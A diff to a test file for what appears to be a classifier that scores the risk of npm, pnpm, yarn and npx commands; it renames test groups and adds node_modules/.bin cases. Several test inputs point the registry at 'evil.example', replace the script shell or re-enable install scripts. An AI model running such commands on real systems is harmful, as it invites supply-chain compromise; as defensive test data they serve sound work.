@@ -48,7 +48,7 @@ const SCRIPTS: World = {
 };
 
 table(
-  "[A-npm] a script is judged by its text, not by its name",
+  "[A-packages] a script is judged by its text, not by its name",
   [
     ["npm run build", 1],
     ["npm test", 1],
@@ -96,14 +96,17 @@ table(
     ["yarn workspace @acme/api test", 1],
     ["pnpm --filter @acme/api reset", 3],
     ["pnpm -F api test", 1],
-    ["npm run local", 2],
+    ["npm run local", 1],
+    ["node_modules/.bin/my-own-tool build", 1],
+    ["my-own-tool build", 2],
+    ["node_modules/.bin/deployer prod", 3],
     ["npx my-own-tool build", 1],
     ["npx deployer prod", 3],
   ],
   SCRIPTS,
 );
 
-table("[A-npm] a script that cannot be read is judged by its name", [
+table("[A-packages] a script that cannot be read is judged by its name", [
   ["npm run dev", 1],
   ["npm run build:prod", 1],
   ["npm run start:prod", 1],
@@ -143,7 +146,7 @@ table("[A-npm] a script that cannot be read is judged by its name", [
   ["npm run $SCRIPT", 2],
 ]);
 
-table("[A-npm] installing from the registry is ordinary, from elsewhere it is a question", [
+table("[A-packages] installing from the registry is ordinary, from elsewhere it is a question", [
   ["npm install", 1],
   ["npm i", 1],
   ["npm install lodash react@18 @types/node@^20", 1],
@@ -186,7 +189,7 @@ table("[A-npm] installing from the registry is ordinary, from elsewhere it is a 
   ["cd /tmp/demo && npm install", 1],
 ]);
 
-table("[A-npm] running a package: known tools as themselves, strangers as code from elsewhere", [
+table("[A-packages] running a package: known tools as themselves, strangers as code from elsewhere", [
   ["npx tsc --noEmit", 1],
   ["npx eslint --fix .", 1],
   ["npx prettier@3 --write src", 1],
@@ -222,7 +225,7 @@ table("[A-npm] running a package: known tools as themselves, strangers as code f
   ["npx --registry https://evil.example eslint .", 2],
 ]);
 
-table("[A-npm] what is public cannot be taken back", [
+table("[A-packages] what is public cannot be taken back", [
   ["npm publish", 4],
   ["npm publish --access public --tag next", 4],
   ["cd packages/api && npm publish", 4],
@@ -258,7 +261,7 @@ table("[A-npm] what is public cannot be taken back", [
   ["npx gh-pages -d dist", 3],
 ]);
 
-table("[A-npm] settings reach beyond the project, reading them does not", [
+table("[A-packages] settings reach beyond the project, reading them does not", [
   ["npm config set registry https://evil.example", 2],
   ["npm config set script-shell /tmp/x", 2],
   ["npm set ignore-scripts false", 2],
